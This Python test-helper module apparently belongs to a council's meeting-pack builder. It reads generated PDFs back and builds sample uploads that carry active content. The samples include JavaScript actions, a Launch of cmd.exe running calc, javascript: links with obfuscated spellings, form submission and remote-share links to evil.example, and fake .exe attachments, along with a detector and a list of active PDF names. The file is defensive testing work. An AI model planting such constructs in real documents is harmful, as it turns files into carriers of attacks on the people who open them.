"""Reading a built pack back, as a member of the public would see it; making uploads that
carry active content, and finding it again."""

from __future__ import annotations

import io
import re

from pypdf import PdfReader

from panels.pack import BLANK_PAGE_TEXT

RANGE = re.compile(r"\(Pages? (\d+)(?: - (\d+))?\)")
AGENDA = re.compile(r"Agenda Item (\d+)\b")


def reader(pdf: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(pdf))


def texts(pdf: bytes) -> list[str]:
    return [page.extract_text() or "" for page in reader(pdf).pages]


def flat(text: str) -> str:
    return " ".join(text.split())


def agenda_starts(pages: list[str]) -> dict[int, list[int]]:
    """Item number -> pages (1-based) carrying "Agenda Item N"."""
    found: dict[int, list[int]] = {}
    for number, text in enumerate(pages, start=1):
        for match in AGENDA.finditer(text):
            found.setdefault(int(match.group(1)), []).append(number)
    return found


def blank_pages(pages: list[str]) -> list[int]:
    return [n for n, text in enumerate(pages, start=1) if BLANK_PAGE_TEXT in text]


def real_ranges(pages: list[str]) -> dict[int, tuple[int, int]]:
    """Where each item's papers really start and end: from its first "Agenda Item N" page to
    the page before the next paper, blank page or the end."""
    starts = agenda_starts(pages)
    boundaries = sorted({p for ps in starts.values() for p in ps} | set(blank_pages(pages)))
    found = {}
    for item, item_starts in starts.items():
        last_start = max(item_starts)
        after = [b for b in boundaries if b > last_start]
        end = (after[0] - 1) if after else len(pages)
        found[item] = (min(item_starts), end)
    return found


def printed_ranges(front_sheet: str, spec) -> dict[int, tuple[int, int]]:
    """The ranges the front sheet prints after each item's title."""
    text = flat(front_sheet)
    found = {}
    positions = []
    for item in spec.items:
        at = text.find(f"{item.number}. {flat(item.title)}")
        assert at >= 0, f"item {item.number} is not on the front sheet"
        positions.append((at, item))
    positions.sort(key=lambda p: p[0])
    for i, (at, item) in enumerate(positions):
        end = positions[i + 1][0] if i + 1 < len(positions) else len(text)
        match = RANGE.search(text, at, end)
        if match:
            first = int(match.group(1))
            found[item.number] = (first, int(match.group(2) or first))
    return found


def outline(pdf: bytes) -> list[tuple[str, int, int]]:
    """(title, page, depth) for every bookmark."""
    r = reader(pdf)
    found = []

    def walk(entries, depth):
        for entry in entries:
            if isinstance(entry, list):
                walk(entry, depth + 1)
            else:
                found.append((entry.title, r.get_destination_page_number(entry) + 1, depth))

    walk(r.outline, 0)
    return found


# Making PDFs with active content, and finding it again --------------------------------------
#
# Each maker below returns a small PDF that carries one kind of active content a viewer could
# run or open (built with pikepdf, as an attacker's tool would). ``active_content`` walks every
# object of a PDF and names what it finds; it knows nothing of the application's sanitiser.


def _new_pdf(pages: int = 1):
    import pikepdf

    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _saved(pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(code: str = "app.alert('pwned')"):
    from pikepdf import Dictionary, Name, String

    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _link(pdf, action, rect=(50, 700, 250, 720)):
    from pikepdf import Array, Dictionary, Name

    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array(list(rect)),
            Border=Array([0, 0, 0]),
            A=action,
        )
    )


def _annotate(pdf, *annotations, page: int = 0) -> None:
    from pikepdf import Array

    pdf.pages[page].obj["/Annots"] = Array(list(annotations))


def _page_javascript(pdf):
    from pikepdf import Dictionary

    pdf.pages[0].obj["/AA"] = Dictionary(O=_js(), C=_js("app.launchURL('https://evil.example')"))


def _open_action_javascript(pdf):
    pdf.Root["/OpenAction"] = pdf.make_indirect(_js())


def _document_javascript(pdf):
    from pikepdf import Array, Dictionary, String

    pdf.Root["/Names"] = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())]))
    )


def _catalog_additional_actions(pdf):
    from pikepdf import Dictionary

    pdf.Root["/AA"] = Dictionary(WC=_js(), WP=_js())


def _embedded_file(pdf):
    import pikepdf

    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ this is not really a program", mime_type="application/octet-stream"
    )


def _xfa_form(pdf):
    from pikepdf import Array, Dictionary, Stream

    xfa = Stream(
        pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x()</script></xdp:xdp>'
    )
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=xfa, NeedsRendering=True)


def _launch(pdf):
    from pikepdf import Dictionary, Name, String

    launch = Dictionary(
        Type=Name.Action,
        S=Name.Launch,
        F=String("cmd.exe"),
        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
    )
    _annotate(pdf, _link(pdf, launch))


def _javascript_link(pdf):
    from pikepdf import Dictionary, Name, String

    _annotate(
        pdf,
        _link(pdf, Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))),
        _link(
            pdf, Dictionary(S=Name.URI, URI=String(" JavaScript:app.alert(2)")), (50, 650, 250, 670)
        ),
        _link(
            pdf,
            Dictionary(S=Name.URI, URI=String("java\tscript:app.alert(3)")),
            (50, 600, 250, 620),
        ),
        _link(
            pdf,
            Dictionary(S=Name.URI, URI=String("file:///C:/Windows/calc.exe")),
            (50, 550, 250, 570),
        ),
    )


def _rich_media(pdf):
    from pikepdf import Array, Dictionary, Name, Stream, String

    flash = Stream(pdf, b"FWS not really flash")
    spec = Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=flash))
    content = Dictionary(
        Type=Name.RichMediaContent,
        Assets=Dictionary(Names=Array([String("movie.swf"), spec])),
        Configurations=Array([]),
    )
    annotation = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([50, 400, 350, 600]),
            RichMediaContent=content,
            RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
        )
    )
    _annotate(pdf, annotation)


def _file_attachment(pdf):
    from pikepdf import Array, Dictionary, Name, Stream, String

    payload = Stream(pdf, b"MZ another program")
    payload["/Type"] = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("readme.exe"), EF=Dictionary(F=payload))
    annotation = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([50, 50, 70, 70]), FS=spec
        )
    )
    _annotate(pdf, annotation)


def _form_field_javascript(pdf):
    from pikepdf import Array, Dictionary, Name, String

    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            Rect=Array([50, 500, 250, 520]),
            AA=Dictionary(K=_js("event.rc = true; app.alert(3)"), F=_js()),
            P=pdf.pages[0].obj,
        )
    )
    _annotate(pdf, field)
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([field]))


def _submit_form(pdf):
    from pikepdf import Dictionary, Name, String

    submit = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
    )
    import_data = Dictionary(S=Name.ImportData, F=String("data.fdf"))
    _annotate(pdf, _link(pdf, submit), _link(pdf, import_data, (50, 650, 250, 670)))


def _chained_javascript(pdf):
    from pikepdf import Array, Dictionary, Name

    first_page = pdf.pages[0].obj
    goto = Dictionary(S=Name.GoTo, D=Array([first_page, Name.Fit]), Next=Array([_js()]))
    _annotate(pdf, _link(pdf, goto))


def _other_file(pdf):
    from pikepdf import Array, Dictionary, Name, String

    remote = Dictionary(
        S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"), D=Array([0, Name.Fit])
    )
    _annotate(pdf, _link(pdf, remote))


def _outline_javascript(pdf):
    from pikepdf import Dictionary, Name, String

    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    entry = pdf.make_indirect(Dictionary(Title=String("Open me"), Parent=outlines, A=_js()))
    outlines["/First"] = entry
    outlines["/Last"] = entry
    pdf.Root["/Outlines"] = outlines


#: Every kind of active content an uploaded PDF is tested with: name -> what adds it.
ACTIVE_KINDS = {
    "page-javascript": _page_javascript,
    "open-action-javascript": _open_action_javascript,
    "document-javascript": _document_javascript,
    "catalog-additional-actions": _catalog_additional_actions,
    "embedded-file": _embedded_file,
    "xfa-form": _xfa_form,
    "launch": _launch,
    "javascript-link": _javascript_link,
    "rich-media": _rich_media,
    "file-attachment": _file_attachment,
    "form-field-javascript": _form_field_javascript,
    "submit-form": _submit_form,
    "chained-javascript": _chained_javascript,
    "other-file": _other_file,
    "outline-javascript": _outline_javascript,
}


def active_pdf(*kinds: str, pages: int = 2) -> bytes:
    """A PDF of ``pages`` blank pages carrying each of the named kinds of active content."""
    pdf = _new_pdf(pages)
    for kind in kinds:
        ACTIVE_KINDS[kind](pdf)
    return _saved(pdf)


def safe_links_pdf(pages: int = 2) -> bytes:
    """A PDF with only what a real paper has and nothing runs: links to a web page and an
    email address, a link to its own second page, and an open-at-the-first-page destination."""
    from pikepdf import Array, Dictionary, Name, String

    pdf = _new_pdf(pages)
    second = pdf.pages[1].obj
    _annotate(
        pdf,
        _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.gov.uk/leaving-care"))),
        _link(
            pdf,
            Dictionary(S=Name.URI, URI=String("mailto:panel@council.example")),
            (50, 650, 250, 670),
        ),
        _link(pdf, Dictionary(S=Name.GoTo, D=Array([second, Name.Fit])), (50, 600, 250, 620)),
    )
    pdf.Root["/OpenAction"] = Array([pdf.pages[0].obj, Name.Fit])
    return _saved(pdf)


#: Names that are active content wherever they appear, as a key or as a value.
ACTIVE_NAMES = {
    "/JS",
    "/JavaScript",
    "/AA",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/EF",
    "/XFA",
    "/RichMedia",
    "/RichMediaContent",
    "/FileAttachment",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
}


def active_content(data: bytes) -> list[str]:
    """Every piece of active content in a PDF, as "where: what": every object, reachable or
    not, is walked, with the dictionaries and arrays inside it."""
    import pikepdf

    found: list[str] = []
    pdf = pikepdf.open(io.BytesIO(data))
    seen: set[tuple[int, int]] = set()
    # The trailer is walked first (it is taken last): what is found is named by its way from
    # the trailer, shortened at each indirect object ("trailer/…(12, 0)/AA/O: key /JS").
    stack = [(obj, f"object {obj.objgen}") for obj in pdf.objects] + [(pdf.trailer, "trailer")]
    while stack:  # not recursion: a chain of actions or outline items can be thousands long
        obj, where = stack.pop()
        if not isinstance(obj, pikepdf.Object):
            continue  # a number or a boolean
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
            where = f"{where.split('/')[0]}/…{obj.objgen}" if "/" in where else where
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in obj:
                value = obj.get(key)
                if key in ACTIVE_NAMES:
                    found.append(f"{where}: key {key}")
                opens = isinstance(value, pikepdf.Dictionary) and key == "/OpenAction"
                if opens and value.get("/S") != pikepdf.Name.GoTo:
                    found.append(f"{where}: /OpenAction {value.get('/S')}")
                stack.append((value, f"{where}{key}"))
        elif isinstance(obj, pikepdf.Array):
            stack.extend((value, f"{where}[{index}]") for index, value in enumerate(obj))
        elif isinstance(obj, pikepdf.Name):
            if str(obj) in ACTIVE_NAMES:
                found.append(f"{where}: name {obj}")
        elif isinstance(obj, pikepdf.String):
            text = "".join(ch for ch in bytes(obj).decode("latin-1") if ch.isprintable())
            if text.strip().lower().startswith("javascript:"):
                found.append(f"{where}: link {text}")
    return found


def links(data: bytes) -> list[str]:
    """Each link annotation's target: "/URI https://…", "/GoTo page N" or "/Dest name"."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(data))
    pages = [page.obj.objgen for page in pdf.pages]
    found = []
    for page in pdf.pages:
        for annotation in page.obj.get("/Annots", []):
            action = annotation.get("/A")
            if "/Dest" in annotation:
                found.append(f"/Dest {annotation.Dest}")
            elif action is None:
                continue
            elif action.get("/S") == pikepdf.Name.URI:
                found.append(f"/URI {action.URI}")
            elif action.get("/S") == pikepdf.Name.GoTo:
                found.append(f"/GoTo page {pages.index(action.D[0].objgen) + 1}")
    return found
